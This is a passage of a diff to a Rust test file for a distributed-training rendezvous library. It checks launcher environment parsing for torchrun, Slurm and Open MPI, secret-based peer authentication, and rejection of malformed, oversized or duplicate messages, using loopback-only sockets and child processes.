@@ -1,13 +1,22 @@
-//! Launcher variables and the TCP rendezvous, on loopback with real sockets
-//! and real processes (no GPU needed).
+//! Launcher variables, the TCP rendezvous and PyTorch's TCPStore protocol, on
+//! loopback with real sockets and real processes (no GPU needed). Every fault
+//! of issue 11 has a test here; every network test talks to 127.0.0.1 only
+//! and is bounded in connections and time.
 
 use std::collections::HashMap;
-use std::io::{Read, Write};
+use std::ffi::OsString;
+use std::io::{BufRead, BufReader, Read, Write};
 use std::net::{TcpListener, TcpStream};
-use std::process::{Command, Output};
+use std::os::unix::ffi::OsStringExt;
+use std::process::{Child, Command, Output, Stdio};
 use std::time::{Duration, Instant};
 
-use nccl::{Bootstrap, Error, LaunchInfo, LaunchSource, TcpBootstrap, UniqueId};
+use nccl::{
+    Bootstrap, Error, LaunchInfo, LaunchSource, Rendezvous, StoreBootstrap, TcpBootstrap, TcpStore,
+    TcpStoreServer, UniqueId,
+};
+
+// ---------------------------------------------------------------- variables
 
 fn vars(pairs: &[(&str, &str)]) -> Result<LaunchInfo, Error> {
     let m: HashMap<String, String> = pairs
@@ -19,77 +28,309 @@ fn vars(pairs: &[(&str, &str)]) -> Result<LaunchInfo, Error> {
 
 /// Environment variables of one case.
 type Vars = &'static [(&'static str, &'static str)];
-/// rank, world, local rank, root, source.
-type Expected = (usize, usize, usize, Option<&'static str>, LaunchSource);
+/// rank, world, local rank, rendezvous, source.
+type Expected = (usize, usize, usize, Rendezvous, LaunchSource);
+/// Variables, what they give, the launchers ignored.
+type Case = (
+    Vec<(&'static str, &'static str)>,
+    Expected,
+    Vec<LaunchSource>,
+);
+
+fn tcp(addr: &str) -> Rendezvous {
+    match vars(&[
+        ("NCCL_RS_RANK", "0"),
+        ("NCCL_RS_WORLD_SIZE", "2"),
+        ("NCCL_RS_ROOT", addr),
+    ])
+    .unwrap()
+    .rendezvous
+    {
+        Rendezvous::Tcp { addr, .. } => Rendezvous::Tcp { addr, from: "" },
+        other => panic!("{other:?}"),
+    }
+}
+
+/// The rendezvous without its `from` text, to compare.
+fn plain(r: Rendezvous) -> Rendezvous {
+    match r {
+        Rendezvous::Tcp { addr, .. } => Rendezvous::Tcp { addr, from: "" },
+        Rendezvous::Store { addr, key, .. } => Rendezvous::Store {
+            addr,
+            key,
+            from: "",
+        },
+        other => other,
+    }
+}
+
+fn store(addr: &str, key: &str) -> Rendezvous {
+    Rendezvous::Store {
+        addr: addr.into(),
+        key: key.into(),
+        from: "",
+    }
+}
+
+/// A Slurm step of 5 tasks on gpu[01-04,07], as `srun -n 5` sets it.
+const SRUN: &[(&str, &str)] = &[
+    ("SLURM_JOB_ID", "123456"),
+    ("SLURM_JOBID", "123456"),
+    ("SLURM_STEP_ID", "2"),
+    ("SLURM_STEPID", "2"),
+    ("SLURM_PROCID", "3"),
+    ("SLURM_LOCALID", "0"),
+    ("SLURM_NTASKS", "5"),
+    ("SLURM_NPROCS", "5"),
+    ("SLURM_NNODES", "5"),
+    ("SLURM_NODEID", "3"),
+    ("SLURM_STEP_NODELIST", "gpu[01-04,07]"),
+    ("SLURM_JOB_NODELIST", "gpu[01-04,07]"),
+    ("SLURM_NODELIST", "gpu[01-04,07]"),
+    ("SLURMD_NODENAME", "gpu04"),
+    ("SLURM_TASKS_PER_NODE", "1(x5)"),
+    ("SLURM_CPUS_ON_NODE", "64"),
+];
+
+/// The documented port of a one-node mpirun job: FNV-1a of the job id.
+fn mpi_port(job: &str) -> u16 {
+    let h = job.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
+        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
+    });
+    nccl::slurm::slurm_port(h % 1_000_000_007, 0)
+}
 
 #[test]
 fn launcher_variables_table() {
-    let ok: &[(Vars, Expected)] = &[
+    let srun_port = 20000 + ((123456u64 * 97 + 2) % 10000) as u16;
+    let mut srun = SRUN.to_vec();
+    // torchrun inside an sbatch script: the workers inherit the batch step's
+    // SLURM_PROCID=0 and SLURM_NTASKS; torchrun's values win
+    let sbatch_torchrun: Vec<(&str, &str)> = [
+        ("SLURM_JOB_ID", "99"),
+        ("SLURM_PROCID", "0"),
+        ("SLURM_LOCALID", "0"),
+        ("SLURM_NTASKS", "1"),
+        ("SLURM_JOB_NODELIST", "a[1-2]-ib,b3"),
+        ("SLURMD_NODENAME", "a1-ib"),
+        ("RANK", "3"),
+        ("WORLD_SIZE", "8"),
+        ("LOCAL_RANK", "3"),
+        ("LOCAL_WORLD_SIZE", "4"),
+        ("GROUP_RANK", "0"),
+        ("MASTER_ADDR", "a1-ib"),
+        ("MASTER_PORT", "29500"),
+        ("TORCHELASTIC_RUN_ID", "job99"),
+        ("TORCHELASTIC_RESTART_COUNT", "2"),
+        ("TORCHELASTIC_MAX_RESTARTS", "3"),
+        ("TORCHELASTIC_USE_AGENT_STORE", "True"),
+    ]
+    .to_vec();
+    // mpirun inside salloc: the ranks inherit the SLURM_* of the step that
+    // started Open MPI's daemons (one task per node)
+    let salloc_mpirun: Vec<(&str, &str)> = [
+        ("SLURM_JOB_ID", "4242"),
+        ("SLURM_STEP_ID", "0"),
+        ("SLURM_PROCID", "1"),
+        ("SLURM_LOCALID", "0"),
+        ("SLURM_NTASKS", "2"),
+        ("SLURM_STEP_NODELIST", "node[08-09]"),
+        ("SLURMD_NODENAME", "node09"),
+        ("OMPI_COMM_WORLD_RANK", "5"),
+        ("OMPI_COMM_WORLD_SIZE", "8"),
+        ("OMPI_COMM_WORLD_LOCAL_RANK", "1"),
+        ("OMPI_COMM_WORLD_LOCAL_SIZE", "4"),
+        ("OMPI_COMM_WORLD_NODE_RANK", "1"),
+    ]
+    .to_vec();
+    let cases: Vec<Case> = vec![
         (
-            &[
+            vec![
                 ("RANK", "3"),
                 ("WORLD_SIZE", "8"),
                 ("LOCAL_RANK", "1"),
                 ("MASTER_ADDR", "10.0.0.1"),
                 ("MASTER_PORT", "29500"),
             ],
-            (3, 8, 1, Some("10.0.0.1:29500"), LaunchSource::Torchrun),
+            (3, 8, 1, tcp("10.0.0.1:29500"), LaunchSource::Torchrun),
+            vec![],
         ),
+        // torchrun's agent store: the workers are told it runs there
         (
-            &[
-                ("SLURM_PROCID", "5"),
-                ("SLURM_NTASKS", "16"),
-                ("SLURM_LOCALID", "5"),
-                ("MASTER_ADDR", "node1"),
-                ("MASTER_PORT", "1234"),
+            vec![
+                ("RANK", "1"),
+                ("WORLD_SIZE", "2"),
+                ("LOCAL_RANK", "1"),
+                ("MASTER_ADDR", "127.0.0.1"),
+                ("MASTER_PORT", "29611"),
+                ("TORCHELASTIC_USE_AGENT_STORE", "True"),
+                ("TORCHELASTIC_RUN_ID", "none"),
+                ("TORCHELASTIC_RESTART_COUNT", "0"),
             ],
-            (5, 16, 5, Some("node1:1234"), LaunchSource::Slurm),
+            (
+                1,
+                2,
+                1,
+                store("127.0.0.1:29611", "nccl-rs/none/0/uid"),
+                LaunchSource::Torchrun,
+            ),
+            vec![],
         ),
         (
-            &[
+            sbatch_torchrun,
+            (
+                3,
+                8,
+                3,
+                store("a1-ib:29500", "nccl-rs/job99/2/uid"),
+                LaunchSource::Torchrun,
+            ),
+            vec![LaunchSource::Slurm],
+        ),
+        (
+            salloc_mpirun.clone(),
+            (
+                5,
+                8,
+                1,
+                tcp(&format!("node08:{}", 20000 + (4242 * 97) % 10000)),
+                LaunchSource::OpenMpi,
+            ),
+            vec![LaunchSource::Slurm],
+        ),
+        // srun ./engine, nothing set by hand
+        (
+            srun.clone(),
+            (
+                3,
+                5,
+                0,
+                tcp(&format!("gpu01:{srun_port}")),
+                LaunchSource::Slurm,
+            ),
+            vec![],
+        ),
+        (
+            {
+                srun.push(("MASTER_PORT", "31000"));
+                srun.clone()
+            },
+            (3, 5, 0, tcp("gpu01:31000"), LaunchSource::Slurm),
+            vec![],
+        ),
+        (
+            {
+                srun.push(("MASTER_ADDR", "login1"));
+                srun.clone()
+            },
+            (3, 5, 0, tcp("login1:31000"), LaunchSource::Slurm),
+            vec![],
+        ),
+        (
+            vec![
                 ("OMPI_COMM_WORLD_RANK", "0"),
                 ("OMPI_COMM_WORLD_SIZE", "2"),
                 ("OMPI_COMM_WORLD_LOCAL_RANK", "0"),
             ],
-            (0, 2, 0, None, LaunchSource::OpenMpi),
+            (0, 2, 0, Rendezvous::Unset, LaunchSource::OpenMpi),
+            vec![],
+        ),
+        // mpirun -np 2 on one node (Open MPI 4.1, Debian 12)
+        (
+            vec![
+                ("OMPI_COMM_WORLD_RANK", "1"),
+                ("OMPI_COMM_WORLD_SIZE", "2"),
+                ("OMPI_COMM_WORLD_LOCAL_RANK", "1"),
+                ("OMPI_COMM_WORLD_LOCAL_SIZE", "2"),
+                ("OMPI_COMM_WORLD_NODE_RANK", "1"),
+                ("OMPI_MCA_ess_base_jobid", "428802049"),
+                ("PMIX_NAMESPACE", "428802049"),
+                ("PMIX_RANK", "1"),
+            ],
+            (
+                1,
+                2,
+                1,
+                tcp(&format!("127.0.0.1:{}", mpi_port("428802049"))),
+                LaunchSource::OpenMpi,
+            ),
+            vec![],
+        ),
+        // on two nodes: no guess
+        (
+            vec![
+                ("OMPI_COMM_WORLD_RANK", "1"),
+                ("OMPI_COMM_WORLD_SIZE", "4"),
+                ("OMPI_COMM_WORLD_LOCAL_RANK", "1"),
+                ("OMPI_COMM_WORLD_LOCAL_SIZE", "2"),
+                ("PMIX_NAMESPACE", "428802049"),
+            ],
+            (1, 4, 1, Rendezvous::Unset, LaunchSource::OpenMpi),
+            vec![],
         ),
         (
-            &[
+            vec![
                 ("NCCL_RS_RANK", "1"),
                 ("NCCL_RS_WORLD_SIZE", "2"),
                 ("NCCL_RS_ROOT", "host:7"),
-            ],
-            (1, 2, 0, Some("host:7"), LaunchSource::Explicit),
-        ),
-        // torchrun inside a Slurm allocation: both agree, torchrun's are used
-        (
-            &[
-                ("RANK", "2"),
-                ("WORLD_SIZE", "4"),
-                ("LOCAL_RANK", "0"),
-                ("SLURM_PROCID", "2"),
-                ("SLURM_NTASKS", "4"),
-                ("SLURM_LOCALID", "0"),
-            ],
-            (2, 4, 0, None, LaunchSource::Torchrun),
-        ),
-        // IPv6 master address
-        (
-            &[
                 ("RANK", "0"),
-                ("WORLD_SIZE", "1"),
+                ("WORLD_SIZE", "9"),
+            ],
+            (1, 2, 0, tcp("host:7"), LaunchSource::Explicit),
+            vec![LaunchSource::Torchrun],
+        ),
+        (
+            vec![
+                ("NCCL_RS_RANK", "1"),
+                ("NCCL_RS_WORLD_SIZE", "2"),
+                ("NCCL_RS_STORE", "[::1]:5"),
+                ("NCCL_RS_RUN_ID", "sync"),
+            ],
+            (
+                1,
+                2,
+                0,
+                store("[::1]:5", "nccl-rs/sync/0/uid"),
+                LaunchSource::Explicit,
+            ),
+            vec![],
+        ),
+        // IPv6 master addresses, with and without brackets
+        (
+            vec![
+                ("RANK", "0"),
+                ("WORLD_SIZE", "2"),
                 ("LOCAL_RANK", "0"),
                 ("MASTER_ADDR", "::1"),
                 ("MASTER_PORT", "80"),
             ],
-            (0, 1, 0, Some("[::1]:80"), LaunchSource::Torchrun),
+            (0, 2, 0, tcp("[::1]:80"), LaunchSource::Torchrun),
+            vec![],
+        ),
+        (
+            vec![
+                ("RANK", "0"),
+                ("WORLD_SIZE", "2"),
+                ("LOCAL_RANK", "0"),
+                ("MASTER_ADDR", "[::1]"),
+                ("MASTER_PORT", "29500"),
+            ],
+            (0, 2, 0, tcp("[::1]:29500"), LaunchSource::Torchrun),
+            vec![],
         ),
     ];
-    for (env, (rank, world, local, root, source)) in ok {
-        let i = vars(env).unwrap_or_else(|e| panic!("{env:?}: {e}"));
+    for (env, (rank, world, local, rdv, source), ignored) in cases {
+        let i = vars(&env).unwrap_or_else(|e| panic!("{env:?}: {e}"));
         assert_eq!(
-            (i.rank, i.world, i.local_rank, i.root.as_deref(), i.source),
-            (*rank, *world, *local, *root, *source),
+            (
+                i.rank,
+                i.world,
+                i.local_rank,
+                plain(i.rendezvous),
+                i.source,
+                i.ignored
+            ),
+            (rank, world, local, plain(rdv), source, ignored),
             "{env:?}"
         );
     }
@@ -116,27 +357,23 @@ fn launcher_variables_table() {
             "WORLD_SIZE",
             "at least 1",
         ),
+        // 2^40 ranks: a typed error, not a 61 TB allocation
         (
             &[
-                ("RANK", "1"),
-                ("WORLD_SIZE", "4"),
+                ("RANK", "0"),
+                ("WORLD_SIZE", "1099511627776"),
                 ("LOCAL_RANK", "0"),
-                ("SLURM_PROCID", "2"),
-                ("SLURM_NTASKS", "4"),
             ],
-            "RANK/SLURM_PROCID",
-            "contradict",
+            "WORLD_SIZE",
+            "above 2147483647",
         ),
         (
             &[
-                ("RANK", "1"),
-                ("WORLD_SIZE", "4"),
-                ("LOCAL_RANK", "0"),
-                ("OMPI_COMM_WORLD_RANK", "1"),
-                ("OMPI_COMM_WORLD_SIZE", "8"),
+                ("NCCL_RS_RANK", "4294967297"),
+                ("NCCL_RS_WORLD_SIZE", "4294967298"),
             ],
-            "WORLD_SIZE/OMPI_COMM_WORLD_SIZE",
-            "contradict",
+            "NCCL_RS_RANK",
+            "above 2147483647",
         ),
         (
             &[
@@ -169,6 +406,37 @@ fn launcher_variables_table() {
             "MASTER_PORT",
             "not a port",
         ),
+        (
+            &[
+                ("RANK", "0"),
+                ("WORLD_SIZE", "2"),
+                ("LOCAL_RANK", "0"),
+                ("MASTER_ADDR", "h"),
+                ("MASTER_PORT", "0"),
+            ],
+            "MASTER_PORT",
+            "port 0",
+        ),
+        (
+            &[
+                ("NCCL_RS_RANK", "0"),
+                ("NCCL_RS_WORLD_SIZE", "2"),
+                ("NCCL_RS_ROOT", "::1:29500"),
+            ],
+            "NCCL_RS_ROOT",
+            "needs brackets",
+        ),
+        (
+            &[
+                ("SLURM_PROCID", "0"),
+                ("SLURM_NTASKS", "2"),
+                ("SLURM_LOCALID", "0"),
+                ("SLURM_JOB_ID", "7"),
+                ("SLURM_STEP_NODELIST", "gpu[01-"),
+            ],
+            "SLURM_STEP_NODELIST",
+            "not a Slurm hostlist",
+        ),
     ];
     for (env, var, problem) in bad {
         match vars(env) {
@@ -181,32 +449,106 @@ fn launcher_variables_table() {
     }
 }
 
+#[test]
+fn values_that_are_not_utf8_are_errors_not_ignored() {
+    let get = |k: &str| -> Option<OsString> {
+        match k {
+            "NCCL_RS_RANK" => Some(OsString::from_vec(vec![b'1', 0xff])),
+            "NCCL_RS_WORLD_SIZE" => Some("2".into()),
+            "RANK" => Some("0".into()),
+            "WORLD_SIZE" => Some("2".into()),
+            "LOCAL_RANK" => Some("0".into()),
+            _ => None,
+        }
+    };
+    match LaunchInfo::from_os_vars(&get) {
+        Err(Error::LaunchEnv { var, problem }) => {
+            assert_eq!(var, "NCCL_RS_RANK");
+            assert!(problem.contains("not valid UTF-8"), "{problem}");
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn slurm_rank_0_on_another_node_than_the_first_is_told_so() {
+    let mut env = SRUN.to_vec();
+    env.retain(|(k, _)| *k != "SLURM_PROCID" && *k != "SLURMD_NODENAME");
+    env.push(("SLURM_PROCID", "0"));
+    env.push(("SLURMD_NODENAME", "gpu03"));
+    let info = vars(&env).unwrap();
+    match info.bootstrap(&nccl::LaunchOptions::default()) {
+        Err(Error::LaunchEnv { var, problem }) => {
+            assert_eq!(var, "SLURM_STEP_NODELIST");
+            assert!(problem.contains("runs on gpu03, not on gpu01"), "{problem}");
+        }
+        Err(e) => panic!("{e:?}"),
+        Ok(_) => panic!("accepted"),
+    }
+}
+
+// ---------------------------------------------------------------- processes
+
 const PEER: &str = env!("CARGO_BIN_EXE_rendezvous-peer");
 
-fn peer(
-    addr: &str,
-    rank: usize,
-    world: usize,
-    secret: &str,
-    ms: u64,
-    n: usize,
-) -> std::process::Child {
+fn peer_os(args: &[OsString]) -> Child {
     Command::new(PEER)
-        .args([
-            addr,
-            &rank.to_string(),
-            &world.to_string(),
-            secret,
-            &ms.to_string(),
-            &n.to_string(),
-        ])
-        .stdout(std::process::Stdio::piped())
+        .args(args)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
         .spawn()
         .unwrap()
 }
 
+fn peer_secret(addr: &str, rank: usize, world: usize, secret: &[u8], ms: u64, n: usize) -> Child {
+    peer_os(&[
+        addr.into(),
+        rank.to_string().into(),
+        world.to_string().into(),
+        OsString::from_vec(secret.to_vec()),
+        ms.to_string().into(),
+        n.to_string().into(),
+    ])
+}
+
+fn peer(addr: &str, rank: usize, world: usize, secret: &str, ms: u64, n: usize) -> Child {
+    peer_secret(addr, rank, world, secret.as_bytes(), ms, n)
+}
+
 fn out(o: Output) -> String {
     String::from_utf8_lossy(&o.stdout).trim().to_string()
+}
+
+/// The `IDS …` line of a finished peer.
+fn ids_of(k: Child) -> String {
+    let o = out(k.wait_with_output().unwrap());
+    o.lines()
+        .find(|l| l.starts_with("IDS ") || l.starts_with("ERR "))
+        .unwrap_or(&o)
+        .to_string()
+}
+
+/// Rank 0 as a process: returns it and the address it listens on.
+fn root_process(extra: &[&str], world: usize, secret: &[u8], ms: u64) -> (Child, String) {
+    let mut args: Vec<OsString> = extra.iter().map(OsString::from).collect();
+    args.extend([
+        "127.0.0.1:0".into(),
+        "0".into(),
+        world.to_string().into(),
+        OsString::from_vec(secret.to_vec()),
+        ms.to_string().into(),
+        "1".into(),
+    ]);
+    let mut c = peer_os(&args);
+    let mut line = String::new();
+    let mut r = BufReader::new(c.stdout.as_mut().unwrap());
+    r.read_line(&mut line).unwrap();
+    let addr = line
+        .strip_prefix("LISTEN ")
+        .unwrap_or_else(|| panic!("{line}"))
+        .trim()
+        .to_string();
+    (c, addr)
 }
 
 /// A free loopback port (bound, then released).
@@ -215,71 +557,51 @@ fn free_addr() -> String {
     l.local_addr().unwrap().to_string()
 }
 
-#[test]
-fn ranks_as_processes_all_receive_the_same_ids() {
-    for (world, n) in [(4, 1), (3, 3)] {
-        let addr = free_addr();
-        let kids: Vec<_> = (0..world)
-            .map(|r| peer(&addr, r, world, "s3cret", 20_000, n))
-            .collect();
-        let outs: Vec<String> = kids
-            .into_iter()
-            .map(|k| out(k.wait_with_output().unwrap()))
-            .collect();
-        assert!(outs[0].starts_with("IDS "), "{outs:?}");
-        assert!(outs.iter().all(|o| o == &outs[0]), "{outs:?}");
-        assert_eq!(outs[0].trim_start_matches("IDS ").split(',').count(), n);
-    }
-}
-
 /// Rank 0 in a thread of this process, listening on a free port.
 fn root(
     world: usize,
-    secret: &str,
+    secret: Option<&str>,
     ms: u64,
 ) -> (
     String,
     std::thread::JoinHandle<Result<Vec<UniqueId>, Error>>,
 ) {
-    let mut b = TcpBootstrap::new(
-        "127.0.0.1:0",
-        0,
-        world,
-        secret.as_bytes(),
-        Duration::from_millis(ms),
-    )
-    .unwrap();
+    root_with(world, secret, Duration::from_millis(ms), |b| b)
+}
+
+fn root_with(
+    world: usize,
+    secret: Option<&str>,
+    timeout: Duration,
+    f: impl FnOnce(TcpBootstrap) -> TcpBootstrap,
+) -> (
+    String,
+    std::thread::JoinHandle<Result<Vec<UniqueId>, Error>>,
+) {
+    let mut b =
+        f(TcpBootstrap::new("127.0.0.1:0", 0, world, secret.map(str::as_bytes), timeout).unwrap());
     let addr = b.listen().unwrap().to_string();
     let h = std::thread::spawn(move || b.share_ids(Some(vec![UniqueId::new()?])));
     (addr, h)
 }
 
 #[test]
-fn a_wrong_secret_is_refused() {
-    let (addr, h) = root(2, "right", 1500);
-    let t = Instant::now();
-    let o = out(peer(&addr, 1, 2, "wrong", 5000, 1)
-        .wait_with_output()
-        .unwrap());
-    assert!(
-        o.starts_with("ERR Rendezvous") && o.contains("wrong secret"),
-        "{o}"
-    );
-    match h.join().unwrap() {
-        Err(Error::RanksMissing {
-            missing, world: 2, ..
-        }) => assert_eq!(missing, vec![1]),
-        other => panic!("{other:?}"),
+fn ranks_as_processes_all_receive_the_same_ids() {
+    // a secret of random bytes that are not UTF-8, as `head -c16 /dev/urandom` gives
+    let binary = [0xffu8, 0xfe, 0x01, 0x80, b'x', 0xc3];
+    for (world, n, secret) in [(4, 1, &b"s3cret"[..]), (3, 3, &binary[..])] {
+        let addr = free_addr();
+        let kids: Vec<_> = (0..world)
+            .map(|r| peer_secret(&addr, r, world, secret, 20_000, n))
+            .collect();
+        let outs: Vec<String> = kids.into_iter().map(ids_of).collect();
+        assert!(outs[0].starts_with("IDS "), "{outs:?}");
+        assert!(outs.iter().all(|o| o == &outs[0]), "{outs:?}");
+        assert_eq!(outs[0].trim_start_matches("IDS ").split(',').count(), n);
     }
-    assert!(t.elapsed() < Duration::from_secs(3), "{:?}", t.elapsed());
-    // and a rank without any secret is refused by a root that has one
-    let (addr, h) = root(2, "right", 1000);
-    let o = out(peer(&addr, 1, 2, "", 5000, 1).wait_with_output().unwrap());
-    assert!(o.contains("wrong secret"), "{o}");
-    assert!(h.join().unwrap().is_err());
 }
 
-/// Sends raw bytes to the root; returns what the root answered.
+/// Sends raw bytes to rank 0; returns what it answered before closing.
 fn poke(addr: &str, bytes: &[u8], close_write: bool) -> Vec<u8> {
     let mut s = TcpStream::connect(addr).unwrap();
     let _ = s.write_all(bytes);
@@ -293,64 +615,331 @@ fn poke(addr: &str, bytes: &[u8], close_write: bool) -> Vec<u8> {
 }
 
 #[test]
-fn garbage_truncated_oversized_and_duplicate_messages_are_rejected() {
-    let (addr, h) = root(3, "", 20_000);
-    // garbage
-    let a = poke(&addr, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", true);
-    assert!(
-        a.starts_with(b"NCCLRS01\x01") && String::from_utf8_lossy(&a).contains("bad magic"),
-        "{:?}",
-        String::from_utf8_lossy(&a)
-    );
-    // a megabyte of garbage: refused after the first 8 bytes
-    let a = poke(&addr, &vec![0xAB; 1 << 20], false);
-    assert!(String::from_utf8_lossy(&a).contains("bad magic"));
-    // truncated hello
-    let a = poke(&addr, b"NCCLRS01\x00\x00", true);
-    assert!(
-        String::from_utf8_lossy(&a).contains("truncated hello"),
-        "{:?}",
-        String::from_utf8_lossy(&a)
-    );
-    // a hello asking for far too many ids
-    let mut hello = b"NCCLRS01".to_vec();
-    hello.extend_from_slice(&1u32.to_be_bytes());
-    hello.extend_from_slice(&3u32.to_be_bytes());
-    hello.extend_from_slice(&1_000_000u32.to_be_bytes());
-    hello.extend_from_slice(&[0; 16]);
+fn a_wrong_secret_is_refused_without_a_word() {
+    let (addr, h) = root(2, Some("right"), 1500);
+    let t = Instant::now();
+    // a stranger without the secret comes first, then one with a wrong one
+    let none = ids_of(peer(&addr, 1, 2, "", 5000, 1));
+    let wrong = ids_of(peer(&addr, 1, 2, "wrong", 5000, 1));
+    for o in [&none, &wrong] {
+        assert!(
+            o.starts_with("ERR Rendezvous") && o.contains("did not accept our proof"),
+            "{o}"
+        );
+    }
+    match h.join().unwrap() {
+        Err(Error::RanksMissing {
+            missing,
+            missing_count: 1,
+            world: 2,
+            ..
+        }) => assert_eq!(missing, vec![1]),
+        other => panic!("{other:?}"),
+    }
+    assert!(t.elapsed() < Duration::from_secs(3), "{:?}", t.elapsed());
+}
+
+#[test]
+fn a_stranger_without_the_secret_cannot_take_a_rank() {
+    let (addr, h) = root(2, Some("right"), 10_000);
+    let stranger = ids_of(peer(&addr, 1, 2, "", 5000, 1));
+    assert!(stranger.starts_with("ERR"), "{stranger}");
+    let real = ids_of(peer(&addr, 1, 2, "right", 5000, 1));
+    let ids = h.join().unwrap().unwrap();
+    assert_eq!(real, format!("IDS {}", ids[0]));
+}
+
+#[test]
+fn garbage_and_truncated_messages_get_no_answer_and_do_not_stop_rank_0() {
+    let (addr, h) = root(2, Some("s"), 20_000);
+    let t = Instant::now();
+    for junk in [
+        &b"GET / HTTP/1.1\r\nHost: x\r\n\r\n\r\n\r\n\r\n\r\n"[..],
+        &b"NCCLRS01\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00\x01"[..],
+        &b"NCCLRS02\x00\x00"[..],
+        &[0xAB; 1 << 20][..],
+    ] {
+        let a = poke(&addr, junk, true);
+        assert!(
+            a.is_empty(),
+            "answered a stranger: {:?}",
+            String::from_utf8_lossy(&a)
+        );
+    }
+    // a well-formed hello and garbage instead of a sealed join
+    let mut hello = b"NCCLRS02".to_vec();
+    hello.extend_from_slice(&[7; 32]);
+    hello.extend_from_slice(&[0; 60]);
     let a = poke(&addr, &hello, true);
+    assert_eq!(a.len(), 40, "only the challenge");
+    assert!(t.elapsed() < Duration::from_secs(5), "{:?}", t.elapsed());
+    let real = ids_of(peer(&addr, 1, 2, "s", 5000, 1));
+    assert_eq!(real, format!("IDS {}", h.join().unwrap().unwrap()[0]));
+}
+
+#[test]
+fn refusals_reach_only_authenticated_peers_and_never_state_rank_0s_values() {
+    let (addr, h) = root(3, Some("s"), 20_000);
+    let other_world = ids_of(peer(&addr, 1, 9, "s", 5000, 1));
     assert!(
-        String::from_utf8_lossy(&a).contains("asks for 1000000 ids"),
-        "{:?}",
-        String::from_utf8_lossy(&a)
+        other_world.contains("world size 9 differs from rank 0's"),
+        "{other_world}"
     );
-    // a different world size, and a rank out of range
-    let mut hello2 = hello.clone();
-    hello2[12..16].copy_from_slice(&9u32.to_be_bytes());
-    assert!(String::from_utf8_lossy(&poke(&addr, &hello2, true)).contains("world size 9"));
-    let mut hello3 = hello.clone();
-    hello3[8..12].copy_from_slice(&7u32.to_be_bytes());
-    hello3[16..20].copy_from_slice(&1u32.to_be_bytes());
-    assert!(String::from_utf8_lossy(&poke(&addr, &hello3, true)).contains("rank 7 is not in 1..3"));
-    // two processes claim rank 1: one is refused, the real ranks finish
-    let a1 = peer(&addr, 1, 3, "", 20_000, 1);
+    let bad_rank = ids_of(peer(&addr, 7, 9, "s", 5000, 1));
+    assert!(bad_rank.contains("world size 9"), "{bad_rank}");
+    let many = ids_of(peer(&addr, 1, 3, "s", 5000, 2));
+    assert!(many.contains("asks for 2 ids"), "{many}");
+    for o in [&other_world, &bad_rank, &many] {
+        let reason = o.split("reason: ").nth(1).unwrap_or(o);
+        assert!(!reason.contains('3'), "leaks the world size: {o}");
+    }
+    // two processes claim rank 1 (both hold the secret): one is refused, the
+    // real ranks finish
+    let a1 = peer(&addr, 1, 3, "s", 20_000, 1);
     std::thread::sleep(Duration::from_millis(300));
-    let dup = peer(&addr, 1, 3, "", 20_000, 1);
-    let dup_out = out(dup.wait_with_output().unwrap());
-    assert!(dup_out.contains("rank 1 has already joined"), "{dup_out}");
-    let r2 = peer(&addr, 2, 3, "", 20_000, 1);
+    let dup = ids_of(peer(&addr, 1, 3, "s", 20_000, 1));
+    assert!(dup.contains("rank 1 has already joined"), "{dup}");
+    let r2 = peer(&addr, 2, 3, "s", 20_000, 1);
     let ids = h.join().unwrap().unwrap();
     for k in [a1, r2] {
-        let o = out(k.wait_with_output().unwrap());
-        assert_eq!(o, format!("IDS {}", ids[0]));
+        assert_eq!(ids_of(k), format!("IDS {}", ids[0]));
     }
+}
+
+#[test]
+fn without_a_secret_a_second_claim_of_a_rank_ends_the_rendezvous_loudly() {
+    let (root, addr) = root_process(&[], 3, b"", 20_000);
+    let first = peer(&addr, 1, 3, "", 20_000, 1);
+    std::thread::sleep(Duration::from_millis(300));
+    let second = peer(&addr, 1, 3, "", 20_000, 1);
+    let o = root.wait_with_output().unwrap();
+    let stdout = out(o.clone());
+    let stderr = String::from_utf8_lossy(&o.stderr);
+    assert!(
+        stdout.contains("claim rank 1") && stdout.contains("NCCL_RS_SECRET"),
+        "{stdout}"
+    );
+    assert_eq!(stderr.matches("WARNING").count(), 1, "{stderr}");
+    assert!(stderr.contains("bearer token"), "{stderr}");
+    for k in [first, second] {
+        let o = ids_of(k);
+        assert!(o.starts_with("ERR") && o.contains("claimed twice"), "{o}");
+    }
+}
+
+/// A relay between rank 1 and rank 0 that records every byte.
+fn relay(to: String) -> (String, std::thread::JoinHandle<Vec<u8>>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = l.local_addr().unwrap().to_string();
+    let h = std::thread::spawn(move || {
+        let (mut a, _) = l.accept().unwrap();
+        let mut b = TcpStream::connect(to).unwrap();
+        let (mut a2, mut b2) = (a.try_clone().unwrap(), b.try_clone().unwrap());
+        let up = std::thread::spawn(move || {
+            let mut seen = Vec::new();
+            let mut buf = [0u8; 4096];
+            while let Ok(n) = a2.read(&mut buf) {
+                if n == 0 || b2.write_all(&buf[..n]).is_err() {
+                    break;
+                }
+                seen.extend_from_slice(&buf[..n]);
+            }
+            let _ = b2.shutdown(std::net::Shutdown::Write);
+            seen
+        });
+        let mut seen = Vec::new();
+        let mut buf = [0u8; 4096];
+        while let Ok(n) = b.read(&mut buf) {
+            if n == 0 || a.write_all(&buf[..n]).is_err() {
+                break;
+            }
+            seen.extend_from_slice(&buf[..n]);
+        }
+        let _ = a.shutdown(std::net::Shutdown::Write);
+        seen.extend(up.join().unwrap());
+        seen
+    });
+    (addr, h)
+}
+
+#[test]
+fn the_id_never_travels_in_clear() {
+    let (addr, h) = root(2, Some("s"), 10_000);
+    let (via, seen) = relay(addr);
+    let r1 = ids_of(peer(&via, 1, 2, "s", 10_000, 1));
+    let ids = h.join().unwrap().unwrap();
+    assert_eq!(r1, format!("IDS {}", ids[0]));
+    let seen = seen.join().unwrap();
+    let id = ids[0].as_bytes();
+    // not the id, nor any 12-byte piece of it
+    for w in id.windows(12) {
+        assert!(
+            !seen.windows(12).any(|s| s == w),
+            "a piece of the id crossed the relay in clear"
+        );
+    }
+}
+
+#[test]
+fn a_dripping_root_cannot_hold_a_rank_past_its_deadline() {
+    // a "rank 0" that sends one byte every 1.5 s (or nothing at all)
+    for drip in [true, false] {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
